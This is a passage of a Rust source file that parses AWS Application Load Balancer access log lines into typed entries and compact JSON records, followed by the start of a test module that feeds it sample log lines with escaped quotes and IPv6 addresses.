//! Application Load Balancer access log lines (`reference/alb.md`, section 2).
//!
//! A line is space-separated fields, some enclosed in double quotes, mapped by position. ALB
//! writes a literal `"` inside a quoted field as `\x22` (and `\` as `\x5c`, non-ASCII as one
//! `\xNN` per UTF-8 byte); those escapes are decoded, and a backslash-escaped `\"` (what other
//! writers and VRL's parser use) is accepted too. AWS appends new fields at the end of the line
//! and has done so four times (2019, 2020, 2024, 2025), so:
//! - a line may end anywhere after `trace_id` (field 18): later fields are absent;
//! - fields after the 33rd (`request_transform_status`) are kept, in order, in `extra`;
//! - a line that ends before `trace_id` is [`ParseError::MissingField`] naming the first
//!   missing field.
//!
//! The tokenizer (`elb_fields.rs`) borrows from the line and allocates only for a
//! decoded escape, so parsing is about as fast as reading the bytes (see `benches/parse.rs`).

use std::borrow::Cow;

use memchr::memchr;

use crate::elb_fields::{Field, Fields, Tokens, unescape_quoted};
use crate::error::ParseError;
use crate::record::{CERTIFICATE_ARN, Record, RequestRecord, SCHEMA_VERSION, TARGET_GROUP_ARN};
use crate::scan::word_needs_escape;

/// One parsed ALB access log line, borrowing from the line.
///
/// Absent values (`-`, `"-"`, `-1` for a processing time, or a field the line ends before) are
/// `None`. Quoted text fields are `Cow` because decoding an escape allocates.
#[derive(Debug, Clone, PartialEq)]
pub struct AlbEntry<'a> {
    /// 1 `type`: http, https, h2, grpcs, ws or wss (other values are kept as they are).
    pub kind: &'a str,
    /// 2 `time`: when the response was sent (WebSockets: when the connection closed), µs UTC.
    pub time: i64,
    /// 3 `elb`: the load balancer's resource id (`app/name/id`).
    pub elb: &'a str,
    /// 4 `client:port`.
    pub client: Option<Endpoint<'a>>,
    /// 5 `target:port`; `-` for a Lambda target, a WAF block or an incomplete request.
    pub target: Option<Endpoint<'a>>,
    /// 6 `request_processing_time`, seconds.
    pub request_processing_time: Option<f64>,
    /// 7 `target_processing_time`, seconds.
    pub target_processing_time: Option<f64>,
    /// 8 `response_processing_time`, seconds.
    pub response_processing_time: Option<f64>,
    /// 9 `elb_status_code`.
    pub elb_status_code: Option<u16>,
    /// 10 `target_status_code`; absent when the target sent no response.
    pub target_status_code: Option<u16>,
    /// 11 `received_bytes` (headers included).
    pub received_bytes: Option<u64>,
    /// 12 `sent_bytes` (headers included).
    pub sent_bytes: Option<u64>,
    /// 13 `request`, split into method, URL and protocol.
    pub request: Request<'a>,
    /// 14 `user_agent` (AWS cuts it at 8 KB).
    pub user_agent: Option<Cow<'a, str>>,
    /// 15 `ssl_cipher`.
    pub ssl_cipher: Option<&'a str>,
    /// 16 `ssl_protocol`.
    pub ssl_protocol: Option<&'a str>,
    /// 17 `target_group_arn` (`-` seen on real redirect and 400 lines).
    pub target_group_arn: Option<&'a str>,
    /// 18 `trace_id`: the X-Amzn-Trace-Id header.
    pub trace_id: Option<Cow<'a, str>>,
    /// 19 `domain_name`: the TLS SNI.
    pub domain_name: Option<Cow<'a, str>>,
    /// 20 `chosen_cert_arn`, or `session-reused`.
    pub chosen_cert_arn: Option<Cow<'a, str>>,
    /// 21 `matched_rule_priority`: 1–50 000, 0 for the default action, -1 for a rule error.
    pub matched_rule_priority: Option<i32>,
    /// 22 `request_creation_time`: when the request arrived, µs UTC.
    pub request_creation_time: Option<i64>,
    /// 23 `actions_executed`, comma-separated.
    pub actions_executed: Option<Cow<'a, str>>,
    /// 24 `redirect_url`.
    pub redirect_url: Option<Cow<'a, str>>,
    /// 25 `error_reason`.
    pub error_reason: Option<Cow<'a, str>>,
    /// 26 `target:port_list`, space-separated.
    pub target_port_list: Option<Cow<'a, str>>,
    /// 27 `target_status_code_list`, space-separated.
    pub target_status_code_list: Option<Cow<'a, str>>,
    /// 28 `classification` (desync mitigation): Acceptable, Ambiguous, Severe.
    pub classification: Option<Cow<'a, str>>,
    /// 29 `classification_reason`.
    pub classification_reason: Option<Cow<'a, str>>,
    /// 30 `conn_trace_id`: bare `TID_<hex>`, the key into the connection log (since 2024-05).
    pub conn_trace_id: Option<&'a str>,
    /// 31 `transformed_host` (since 2025-08).
    pub transformed_host: Option<Cow<'a, str>>,
    /// 32 `transformed_uri`.
    pub transformed_uri: Option<Cow<'a, str>>,
    /// 33 `request_transform_status`.
    pub request_transform_status: Option<Cow<'a, str>>,
    /// Fields after the 33rd, in order, decoded but otherwise as written (`-` stays `-`).
    pub extra: Vec<Cow<'a, str>>,
}

/// An `address:port` pair. IPv6 addresses are written without brackets (`2001:db8::1:443`),
/// so the port is what follows the last colon; `[2001:db8::1]:443` is accepted too.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Endpoint<'a> {
    /// The address, without brackets.
    pub ip: &'a str,
    /// The port.
    pub port: u16,
}

impl<'a> Endpoint<'a> {
    /// Splits `ip:port` on the last colon; `None` when there is no colon, no address or the
    /// port is not a number from 0 to 65535.
    pub fn parse(text: &'a str) -> Option<Endpoint<'a>> {
        // The port is the run of digits at the end; the last colon must come right before
        // it (were it further on, the port would hold a non-digit).
        let bytes = text.as_bytes();
        let digits = bytes
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_digit())
            .count();
        let colon = bytes.len().checked_sub(digits + 1)?;
        if bytes.get(colon) != Some(&b':') || digits == 0 {
            return None;
        }
        let port = bytes.get(colon + 1..)?.iter().try_fold(0u16, |n, &d| {
            n.checked_mul(10)?.checked_add(u16::from(d - b'0'))
        })?;
        let ip = text.get(..colon)?;
        let ip = ip
            .strip_prefix('[')
            .and_then(|ip| ip.strip_suffix(']'))
            .unwrap_or(ip);
        if ip.is_empty() {
            return None;
        }
        Some(Endpoint { ip, port })
    }

    /// Whether `text` names this endpoint (`ip:port`, brackets or not).
    fn is(&self, text: &str) -> bool {
        Endpoint::parse(text).is_some_and(|other| other == *self)
    }
}

/// A request line, `METHOD URL PROTOCOL`. The URL is what lies between the first and the last
/// space, because ALB logs the URL as the client sent it, unescaped spaces included.
///
/// When the line does not have that shape (`- - - ` for a connection that never sent a request,
/// `- http://example.com:80- -` for a malformed one), method, URL and protocol are `None` and
/// the whole text is in `raw`.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Request<'a> {
    /// The method (`GET`), when the line splits.
    pub method: Option<&'a str>,
    /// The URL, decoded from `\xNN` escapes, when the line splits.
    pub url: Option<Cow<'a, str>>,
    /// The protocol (`HTTP/1.1`, `HTTP/2.0`), when the line splits.
    pub protocol: Option<&'a str>,
    /// The whole request text, decoded, only when it does not split.
    pub raw: Option<Cow<'a, str>>,
}

impl<'a> Request<'a> {
    /// Splits the text of a request field (without its quotes, escapes not yet decoded).
    /// `-` or empty is an absent request (all `None`).
    pub fn split(text: &'a str) -> Request<'a> {
        Request::split_with(text, true)
    }

    /// As [`Request::split`]; `decode` false when the tokenizer saw no backslash in the text.
    fn split_with(text: &'a str, decode: bool) -> Request<'a> {
        let unescape = |text: &'a str| -> Cow<'a, str> {
            if decode {
                unescape_quoted(text)
            } else {
                Cow::Borrowed(text)
            }
        };
        if text.is_empty() || text == "-" {
            return Request::default();
        }
        let bytes = text.as_bytes();
        if let (Some(first), Some(last)) = (memchr(b' ', bytes), memchr::memrchr(b' ', bytes)) {
            let method = &text[..first];
            let protocol = &text[last + 1..];
            let url = text.get(first + 1..last).unwrap_or("");
            if is_method(method) && protocol.starts_with("HTTP/") && !url.is_empty() {
                return Request {
                    method: Some(method),
                    url: Some(unescape(url)),
                    protocol: Some(protocol),
                    raw: None,
                };
            }
        }
        Request {
            raw: Some(unescape(text)),
            ..Request::default()
        }
    }
}

/// An HTTP method is a token (RFC 9110): letters, digits and `!#$%&'*+-.^_`|~`; `-` alone is
/// what ALB writes when there was no method.
fn is_method(text: &str) -> bool {
    text != "-"
        && !text.is_empty()
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
}

/// Whether a line is the content of the test object ELB writes when logging is enabled
/// (`ELBAccessLogTestFile`: `Enable AccessLog for ELB: app/name/id at 2025-05-30T16:47:00.781Z`,
/// and `Enable ConnectionLog for ELB: …` for connection logs). Such lines are not log entries.
pub fn is_control_line(line: &str) -> bool {
    let line = line.trim_start_matches(['\u{feff}', ' ']);
    let Some(rest) = line.strip_prefix("Enable ") else {
        return false;
    };
    // Only AccessLog and ConnectionLog are known; any `<Kind>Log for ELB` is the same message.
    rest.split_once(' ')
        .is_some_and(|(kind, tail)| kind.ends_with("Log") && tail.starts_with("for ELB"))
}

/// The names of the fields ALB defines (1–33), as `reference/alb.md` gives them.
const FIELD_NAMES: [&str; 33] = [
    "type",
    "time",
    "elb",
    "client:port",
    "target:port",
    "request_processing_time",
    "target_processing_time",
    "response_processing_time",
    "elb_status_code",
    "target_status_code",
    "received_bytes",
    "sent_bytes",
    "request",
    "user_agent",
    "ssl_cipher",
    "ssl_protocol",
    "target_group_arn",
    "trace_id",
    "domain_name",
    "chosen_cert_arn",
    "matched_rule_priority",
    "request_creation_time",
    "actions_executed",
    "redirect_url",
    "error_reason",
    "target:port_list",
    "target_status_code_list",
    "classification",
    "classification_reason",
    "conn_trace_id",
    "transformed_host",
    "transformed_uri",
    "request_transform_status",
];

/// A member's key as written before its value: `,"key":`.
macro_rules! key {
    ($name:literal) => {
        concat!(",\"", $name, "\":")
    };
}

/// A string member's key with the value's opening quote: `,"key":"`.
macro_rules! skey {
    ($name:literal) => {
        concat!(",\"", $name, "\":\"")
    };
}

/// Parses one ALB access log line (a trailing `\r\n` or `\n` is ignored).
pub fn parse_line(line: &str) -> Result<AlbEntry<'_>, ParseError> {
    parse(&mut Tokens::new(line))
}

/// Parses one ALB access log line and appends the compact JSON of its record to `out`
/// ([`AlbEntry::write_record_json`]); returns the record's time ([`AlbEntry::record_time`]).
/// On an error nothing is written.
///
/// The same as [`parse_line`] then `write_record_json`, but the entry (some 700 bytes) is
/// written from where it was parsed instead of being moved out through a `Result`: what the
/// ingest does for every line.
pub fn line_to_json(line: &str, out: &mut String) -> Result<i64, ParseError> {
    let mut f = Tokens::new(line);
    let mut fields = Fields::new(&FIELD_NAMES);
    let extra = split(&mut f, &mut fields)?;
    // Nearly every line has nothing a JSON string must escape (ALB writes `\xNN` for what is
    // not printable): one look at the whole line spares a look at each value written, and
    // such a line is written straight from its fields.
    let plain = f.json_plain();
    if plain && let Ok(extra) = &extra {
        let start = out.len();
        if let Some(time) = write_plain_line(&fields, extra, out) {
            return Ok(time);
        }
        out.truncate(start);
    }
    let entry = entry_from(&fields, extra)?;
    entry.write_json(out, plain);
    Ok(entry.record_time())
}

#[inline(always)]
fn parse<'a>(f: &mut Tokens<'a>) -> Result<AlbEntry<'a>, ParseError> {
    let mut fields = Fields::new(&FIELD_NAMES);
    let extra = split(f, &mut fields)?;
    entry_from(&fields, extra)
}

/// The fields after the defined ones (their meaning unknown), or `Unterminated` for an open
/// quote among them: the entry reports that only after every defined field.
type Extra<'a> = Result<Vec<Field<'a>>, ParseError>;

/// Splits a whole line: the defined fields into `fields` (filled where it lies: it is some
/// 800 bytes), then the ones after them, returned in order.
#[inline(always)]
fn split<'a>(f: &mut Tokens<'a>, fields: &mut Fields<'a, 33>) -> Result<Extra<'a>, ParseError> {
    if f.is_empty() {
        return Err(ParseError::Empty);
    }
    f.fill(fields);
    let mut extra = Vec::new();
    loop {
        match f.next("extra") {
            Ok(Some(field)) => extra.push(field),
            Ok(None) => return Ok(Ok(extra)),
            Err(e) => return Ok(Err(e)),
        }
    }
}

/// The record JSON of a line with nothing to escape, written straight from its split fields
/// (no entry built, nothing decoded: a line without a backslash has no escapes), byte for byte
/// what [`AlbEntry::write_record_json`] writes; returns the record time. `None` when a field
/// is missing or invalid: the caller then drops what was written and reads the line the
/// field-by-field way, which names the first problem.
#[inline(always)]
fn write_plain_line(fields: &Fields<'_, 33>, extra: &[Field<'_>], out: &mut String) -> Option<i64> {
    if fields.unterminated || fields.found < 18 {
        return None;
    }
    // Field `i`, `None` past the line's end (then a required field sends the line back).
    let req = |i: usize| fields.fields.get(i).filter(|_| i < fields.found).copied();
    let opt_value = |i: usize| req(i).and_then(Field::value);
    let time = req(1)?.time("time").ok()?;
    let creation = match req(21) {
        Some(field) if field.value().is_some() => Some(field.time("request_creation_time").ok()?),
        _ => None,
    };
    let client = req(3)?.endpoint("client:port").ok()?;
    let target = req(4)?.endpoint("target:port").ok()?;
    let target_status = req(9)?.status("target_status_code").ok()?;
    let record_time = creation.unwrap_or(time);
    let request = Request::split_with(req(12)?.text, false);
    let mut o = JsonObject::open(out, "alb", true);
    o.int(key!("v"), i64::from(SCHEMA_VERSION));
    o.int(key!("t"), record_time);
    o.int(key!("te"), time);
    o.str(skey!("ty"), Some(req(0)?.text));
    o.str(skey!("lb"), Some(req(2)?.text));
    o.str(skey!("ip"), client.map(|c| c.ip));
    o.opt_int(key!("cp"), client.map(|c| c.port));
    o.str(skey!("tip"), target.map(|t| t.ip));
    o.opt_int(key!("tpt"), target.map(|t| t.port));
    o.str(skey!("m"), request.method);
    o.str(skey!("u"), request.url.as_deref());
    o.str(skey!("pr"), request.protocol);
    o.str(skey!("rq"), request.raw.as_deref());
    o.opt_int(key!("s"), req(8)?.status("elb_status_code").ok()?);
    o.opt_int(key!("ts"), target_status);
    o.uint(key!("rb"), req(10)?.count("received_bytes").ok()?);
    o.uint(key!("sb"), req(11)?.count("sent_bytes").ok()?);
    o.str(skey!("ua"), req(13)?.value());
    o.float(key!("dq"), req(5)?.seconds("request_processing_time").ok()?);
    o.float(key!("dt"), req(6)?.seconds("target_processing_time").ok()?);
    o.float(
        key!("dr"),
        req(7)?.seconds("response_processing_time").ok()?,
    );
    o.str(skey!("ci"), req(14)?.value());
    o.str(skey!("sp"), req(15)?.value());
    o.str(
        skey!("tg"),
        req(16)?.value().map(|a| TARGET_GROUP_ARN.compact(a)),
    );
    o.str(skey!("tr"), req(17)?.value());
    o.str(skey!("sni"), opt_value(18));
    o.str(
        skey!("crt"),
        opt_value(19).map(|a| CERTIFICATE_ARN.compact(a)),
    );
    let rule = match req(20) {
        Some(field) => field.integer("matched_rule_priority").ok()?,
        None => None,
    };
    o.opt_int(key!("rule"), rule);
    o.str(skey!("act"), opt_value(22));
    o.str(skey!("rd"), opt_value(23));
    o.str(skey!("er"), opt_value(24));
    o.str(skey!("tl"), target_list(opt_value(25), target));
    o.str(
        skey!("tsl"),
        target_status_list(opt_value(26), target_status),
    );
    o.str(skey!("cl"), opt_value(27));
    o.str(skey!("clr"), opt_value(28));
    o.str(skey!("cid"), opt_value(29));
    o.str(skey!("th"), opt_value(30));
    o.str(skey!("tu"), opt_value(31));
    o.str(skey!("tst"), opt_value(32));
    if !extra.is_empty() {
        o.key(key!("x"));
        o.out.push('[');
        for (i, field) in extra.iter().enumerate() {
            if i > 0 {
                o.out.push(',');
            }
            o.string(field.text);
        }
        o.out.push(']');
    }
    o.close();
    Some(record_time)
}

/// The entry of a line whose fields are split (`extra`: what followed the defined ones).
#[inline(always)]
fn entry_from<'a>(fields: &Fields<'a, 33>, extra: Extra<'a>) -> Result<AlbEntry<'a>, ParseError> {
    // All the defined fields were split off in one loop first (the hot part of parsing); each
    // is now read in order, so that errors come out as a field-by-field reader would give
    // them: an invalid value before a missing or unterminated field is reported first.
    let req = |i: usize| fields.required(i);
    let opt = |i: usize| fields.optional(i);
    let kind = req(0)?.text;
    let time = req(1)?.time("time")?;
    let elb = req(2)?.text;
    let client = req(3)?.endpoint("client:port")?;
    let target = req(4)?.endpoint("target:port")?;
    let request_processing_time = req(5)?.seconds("request_processing_time")?;
    let target_processing_time = req(6)?.seconds("target_processing_time")?;
    let response_processing_time = req(7)?.seconds("response_processing_time")?;
    let elb_status_code = req(8)?.status("elb_status_code")?;
    let target_status_code = req(9)?.status("target_status_code")?;
    let received_bytes = req(10)?.count("received_bytes")?;
    let sent_bytes = req(11)?.count("sent_bytes")?;
    let request = req(12)?;
    let request = Request::split_with(request.text, request.quoted);
    let user_agent = req(13)?.string();
    let ssl_cipher = req(14)?.value();
    let ssl_protocol = req(15)?.value();
    let target_group_arn = req(16)?.value();
    let trace_id = req(17)?.string();
    // Everything after trace_id was added later (2019, 2020, 2024, 2025): a line may end at
    // any of these, and they are `None` once it has.
    let domain_name = opt(18)?.and_then(Field::string);
    let chosen_cert_arn = opt(19)?.and_then(Field::string);
    let matched_rule_priority = match opt(20)? {
        Some(field) => field.integer("matched_rule_priority")?,
        None => None,
    };
    let request_creation_time = match opt(21)? {
        Some(field) if field.value().is_some() => Some(field.time("request_creation_time")?),
        _ => None,
    };
    let actions_executed = opt(22)?.and_then(Field::string);
    let redirect_url = opt(23)?.and_then(Field::string);
    let error_reason = opt(24)?.and_then(Field::string);
    let target_port_list = opt(25)?.and_then(Field::string);
    let target_status_code_list = opt(26)?.and_then(Field::string);
    let classification = opt(27)?.and_then(Field::string);
    let classification_reason = opt(28)?.and_then(Field::string);
    let conn_trace_id = opt(29)?.and_then(Field::value);
    let transformed_host = opt(30)?.and_then(Field::string);
    let transformed_uri = opt(31)?.and_then(Field::string);
    let request_transform_status = opt(32)?.and_then(Field::string);
    let extra = extra?.into_iter().map(Field::decoded).collect();
    Ok(AlbEntry {
        kind,
        time,
        elb,
        client,
        target,
        request_processing_time,
        target_processing_time,
        response_processing_time,
        elb_status_code,
        target_status_code,
        received_bytes,
        sent_bytes,
        request,
        user_agent,
        ssl_cipher,
        ssl_protocol,
        target_group_arn,
        trace_id,
        domain_name,
        chosen_cert_arn,
        matched_rule_priority,
        request_creation_time,
        actions_executed,
        redirect_url,
        error_reason,
        target_port_list,
        target_status_code_list,
        classification,
        classification_reason,
        conn_trace_id,
        transformed_host,
        transformed_uri,
        request_transform_status,
        extra,
    })
}

/// Parses one ALB access log line into its [`Record::Alb`].
pub fn parse_record(line: &str) -> Result<Record, ParseError> {
    parse_line(line).map(|entry| Record::Alb(entry.to_record()))
}

impl AlbEntry<'_> {
    /// When the request arrived: `request_creation_time`, or for lines from before 2019,
    /// which have none, `time` (the best there is). The record's `t`.
    pub fn record_time(&self) -> i64 {
        self.request_creation_time.unwrap_or(self.time)
    }

    /// The record written for this line.
    pub fn to_record(&self) -> RequestRecord {
        RequestRecord {
            v: SCHEMA_VERSION,
            t: self.record_time(),
            end: Some(self.time),
            kind: Some(self.kind.to_owned()),
            server: Some(self.elb.to_owned()),
            client_ip: self.client.map(|c| c.ip.to_owned()),
            client_port: self.client.map(|c| c.port),
            target_ip: self.target.map(|t| t.ip.to_owned()),
            target_port: self.target.map(|t| t.port),
            method: self.request.method.map(str::to_owned),
            url: owned(&self.request.url),
            protocol: self.request.protocol.map(str::to_owned),
            request_raw: owned(&self.request.raw),
            status: self.elb_status_code,
            target_status: self.target_status_code,
            received_bytes: self.received_bytes,
            sent_bytes: self.sent_bytes,
            user_agent: owned(&self.user_agent),
            request_time: self.request_processing_time,
            target_time: self.target_processing_time,
            response_time: self.response_processing_time,
            ssl_cipher: self.ssl_cipher.map(str::to_owned),
            ssl_protocol: self.ssl_protocol.map(str::to_owned),
            target_group: self.target_group_arn.map(str::to_owned),
            trace_id: owned(&self.trace_id),
            sni: owned(&self.domain_name),
            cert: owned(&self.chosen_cert_arn),
            rule_priority: self.matched_rule_priority,
            actions: owned(&self.actions_executed),
            redirect_url: owned(&self.redirect_url),
            error_reason: owned(&self.error_reason),
            target_list: self.target_list().map(str::to_owned),
            target_status_list: self.target_status_list().map(str::to_owned),
            classification: owned(&self.classification),
            classification_reason: owned(&self.classification_reason),
            conn_trace_id: self.conn_trace_id.map(str::to_owned),
            transformed_host: owned(&self.transformed_host),
            transformed_uri: owned(&self.transformed_uri),
            transform_status: owned(&self.request_transform_status),
            extra: self.extra.iter().map(|x| x.to_string()).collect(),
            ..RequestRecord::default()
        }
    }
}

impl AlbEntry<'_> {
    /// Appends the compact JSON of `Record::Alb(self.to_record())` to `out`, byte for byte
    /// (a property test compares the two), without building the record.
    ///
    /// Building a [`RequestRecord`] allocates a string per field and costs more than parsing
    /// the line; this writes straight from the borrowed entry, so the ingest can keep up with
    /// gunzip. Key order and names follow `RequestRecord`'s declaration.
    pub fn write_record_json(&self, out: &mut String) {
        self.write_json(out, false);
    }

    /// [`AlbEntry::write_record_json`]; `plain` says that no value needs a JSON escape (they
    /// are then copied as they are).
    #[inline(always)]
    fn write_json(&self, out: &mut String, plain: bool) {
        let mut o = JsonObject::open(out, "alb", plain);
        o.int(key!("v"), i64::from(SCHEMA_VERSION));
        o.int(key!("t"), self.record_time());
        o.int(key!("te"), self.time);
        o.str(skey!("ty"), Some(self.kind));
        o.str(skey!("lb"), Some(self.elb));
        o.str(skey!("ip"), self.client.map(|c| c.ip));
        o.opt_int(key!("cp"), self.client.map(|c| c.port));
        o.str(skey!("tip"), self.target.map(|t| t.ip));
        o.opt_int(key!("tpt"), self.target.map(|t| t.port));
        o.str(skey!("m"), self.request.method);
        o.str(skey!("u"), self.request.url.as_deref());
        o.str(skey!("pr"), self.request.protocol);
        o.str(skey!("rq"), self.request.raw.as_deref());
        o.opt_int(key!("s"), self.elb_status_code);
        o.opt_int(key!("ts"), self.target_status_code);
        o.uint(key!("rb"), self.received_bytes);
        o.uint(key!("sb"), self.sent_bytes);
        o.str(skey!("ua"), self.user_agent.as_deref());
        o.float(key!("dq"), self.request_processing_time);
        o.float(key!("dt"), self.target_processing_time);
        o.float(key!("dr"), self.response_processing_time);
        o.str(skey!("ci"), self.ssl_cipher);
        o.str(skey!("sp"), self.ssl_protocol);
        o.str(
            skey!("tg"),
            self.target_group_arn.map(|a| TARGET_GROUP_ARN.compact(a)),
        );
        o.str(skey!("tr"), self.trace_id.as_deref());
        o.str(skey!("sni"), self.domain_name.as_deref());
        o.str(
            skey!("crt"),
            self.chosen_cert_arn
                .as_deref()
                .map(|a| CERTIFICATE_ARN.compact(a)),
        );
        o.opt_int(key!("rule"), self.matched_rule_priority);
        o.str(skey!("act"), self.actions_executed.as_deref());
        o.str(skey!("rd"), self.redirect_url.as_deref());
        o.str(skey!("er"), self.error_reason.as_deref());
        o.str(skey!("tl"), self.target_list());
        o.str(skey!("tsl"), self.target_status_list());
        o.str(skey!("cl"), self.classification.as_deref());
        o.str(skey!("clr"), self.classification_reason.as_deref());
        o.str(skey!("cid"), self.conn_trace_id);
        o.str(skey!("th"), self.transformed_host.as_deref());
        o.str(skey!("tu"), self.transformed_uri.as_deref());
        o.str(skey!("tst"), self.request_transform_status.as_deref());
        o.list(key!("x"), &self.extra);
        o.close();
    }

    /// `target:port_list`, unless it only repeats `target:port`. The lists hold one item equal
    /// to the single value today; they are stored only when they say something more.
    fn target_list(&self) -> Option<&str> {
        target_list(self.target_port_list.as_deref(), self.target)
    }

    /// `target_status_code_list`, unless it only repeats `target_status_code`.
    fn target_status_list(&self) -> Option<&str> {
        target_status_list(
            self.target_status_code_list.as_deref(),
            self.target_status_code,
        )
    }
}

/// `target:port_list`, unless it only repeats `target:port`.
fn target_list<'a>(list: Option<&'a str>, target: Option<Endpoint<'_>>) -> Option<&'a str> {
    list.filter(|list| !target.is_some_and(|t| t.is(list)))
}

/// `target_status_code_list`, unless it only repeats `target_status_code`.
fn target_status_list(list: Option<&str>, status: Option<u16>) -> Option<&str> {
    list.filter(|list| list.parse::<u16>().ok() != status)
}

/// Writes one JSON object the way serde_json's compact serializer does, skipping absent
/// values as `RequestRecord`'s `skip_serializing_if` does.
struct JsonObject<'o> {
    out: &'o mut String,
    /// No value needs an escape.
    plain: bool,
}

impl<'o> JsonObject<'o> {
    /// Opens the object with the record tag, as serde writes an internally tagged enum.
    fn open(out: &'o mut String, kind: &str, plain: bool) -> JsonObject<'o> {
        out.push_str("{\"k\":");
        json_string(out, kind);
        JsonObject { out, plain }
    }

    /// A string value.
    #[inline(always)]
    fn string(&mut self, value: &str) {
        if self.plain {
            self.out.push('"');
            self.out.push_str(value);
            self.out.push('"');
        } else {
            json_string(self.out, value);
        }
    }

    /// Starts a member: `key` is `,"name":` ([`key!`]); names are short ASCII that needs no
    /// escaping.
    fn key(&mut self, key: &str) {
        self.out.push_str(key);
    }

    /// A string member; `key` is `,"name":"` ([`skey!`]).
    #[inline(always)]
    fn str(&mut self, key: &str, value: Option<&str>) {
        if let Some(value) = value {
            self.out.push_str(key);
            if self.plain {
                self.out.push_str(value);
                self.out.push('"');
            } else {
                json_string_rest(self.out, value);
            }
        }
    }

    fn int(&mut self, key: &str, value: i64) {
        self.key(key);
        self.out.push_str(itoa::Buffer::new().format(value));
    }

    fn uint(&mut self, key: &str, value: Option<u64>) {
        if let Some(value) = value {
            self.key(key);
            self.out.push_str(itoa::Buffer::new().format(value));
        }
    }

    fn opt_int<T: Into<i64>>(&mut self, key: &str, value: Option<T>) {
        if let Some(value) = value {
            self.int(key, value.into());
        }
    }

    fn float(&mut self, key: &str, value: Option<f64>) {
        if let Some(value) = value {
            self.key(key);
            if write_thousandths(self.out, value) {
                return;
            }
            // serde_json's own float formatting (zmij; `null` for what is not finite), so the
            // bytes match exactly.
            if value.is_finite() {
                self.out.push_str(zmij::Buffer::new().format_finite(value));
            } else {
                self.out.push_str("null");
            }
        }
    }

    fn list(&mut self, key: &str, values: &[Cow<'_, str>]) {
        if values.is_empty() {
            return;
        }
        self.key(key);
        self.out.push('[');
        for (i, value) in values.iter().enumerate() {
            if i > 0 {
                self.out.push(',');
            }
            self.string(value);
        }
        self.out.push(']');
    }

    fn close(self) {
        self.out.push('}');
    }
}

/// Writes `value` as serde_json does (shortest round-trip digits) when it is a whole number of
/// thousandths from 0 to 10^6, which every ALB time is (`0.001`): the integer, a point and
/// the thousandths without trailing zeros (`0.0`, `0.05`, `12.345`). Such a double has no
/// shorter decimal that reads back as it (its neighbours are far closer than 0.001 apart), so
/// these are the digits zmij would print; a test compares the two over the whole range used.
/// Returns false, writing nothing, for any other value.
#[inline]
fn write_thousandths(out: &mut String, value: f64) -> bool {
    if !(value > 0.0 || value.to_bits() == 0) || value >= 1e6 {
        return false;
    }
    // Not `round`, which is a library call on the baseline x86_64: a wrong guess is caught
    // by the check below like any value that is not whole thousandths.
    let n = (value * 1000.0 + 0.5) as u64;
    if n as f64 / 1000.0 != value {
        return false;
    }
    let (int, frac) = (n / 1000, n % 1000);
    // Each is below 10, so the narrowing keeps it.
    let digit = |d: u64| char::from(b'0' + d as u8);
    if int < 10 {
        out.push(digit(int));
    } else {
        out.push_str(itoa::Buffer::new().format(int));
    }
    let (d1, d2, d3) = (frac / 100, frac / 10 % 10, frac % 10);
    out.push('.');
    out.push(digit(d1));
    if (d2, d3) != (0, 0) {
        out.push(digit(d2));
    }
    if d3 != 0 {
        out.push(digit(d3));
    }
    true
}

/// Writes `text` as a JSON string with serde_json's escapes: `\"`, `\\`, `\b \t \n \f \r`,
/// and `\u00xx` for the other control characters.
fn json_string(out: &mut String, text: &str) {
    out.push('"');
    json_string_rest(out, text);
}

/// [`json_string`] after its opening quote: the escaped text and the closing quote.
fn json_string_rest(out: &mut String, text: &str) {
    let bytes = text.as_bytes();
    let mut start = 0;
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        // Nearly all text needs no escape: skip it eight bytes at a time.
        if let Some(Ok(word)) = bytes.get(i..i + 8).map(<[u8; 8]>::try_from)
            && !word_needs_escape(u64::from_le_bytes(word))
        {
            i += 8;
            continue;
        }
        i += 1;
        if b >= 0x20 && b != b'"' && b != b'\\' {
            continue;
        }
        // `b` is ASCII, so the text before it ends on a character boundary.
        out.push_str(text.get(start..i - 1).unwrap_or_default());
        start = i;
        match b {
            b'"' => out.push_str("\\\""),
            b'\\' => out.push_str("\\\\"),
            0x08 => out.push_str("\\b"),
            b'\t' => out.push_str("\\t"),
            b'\n' => out.push_str("\\n"),
            0x0c => out.push_str("\\f"),
            b'\r' => out.push_str("\\r"),
            _ => {
                const HEX: &[u8; 16] = b"0123456789abcdef";
                out.push_str("\\u00");
                out.push(char::from(HEX[usize::from(b >> 4)]));
                out.push(char::from(HEX[usize::from(b & 0xf)]));
            }
        }
    }
    out.push_str(text.get(start..).unwrap_or_default());
    out.push('"');
}

fn owned(value: &Option<Cow<'_, str>>) -> Option<String> {
    value.as_deref().map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const HTTP: &str = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#;

    fn with(find: &str, replace: &str) -> String {
        assert!(HTTP.contains(find), "{find}");
        HTTP.replacen(find, replace, 1)
    }

    #[test]
    fn tricky_lines() {
        type Check = fn(&AlbEntry<'_>);
        let cases: Vec<(&str, String, Check)> = vec![
            (
                "escaped_quote_in_user_agent",
                with(r#""curl/7.46.0""#, r#""Mozilla \x22quoted\x22 5.0""#),
                |e| assert_eq!(e.user_agent.as_deref(), Some(r#"Mozilla "quoted" 5.0"#)),
            ),
            (
                "backslash_quote_in_user_agent",
                with(r#""curl/7.46.0""#, r#""say \"hi\" there""#),
                |e| {
                    assert_eq!(e.user_agent.as_deref(), Some(r#"say "hi" there"#));
                    assert_eq!(e.ssl_cipher, None);
                },
            ),
            (
                "backslash_quote_before_separator",
                with(r#""curl/7.46.0""#, r#""quote then space \" x \"""#),
                |e| assert_eq!(e.user_agent.as_deref(), Some(r#"quote then space " x ""#)),
            ),
            (
                "ipv6_client_without_brackets",
                with(
                    "192.168.131.39:2817",
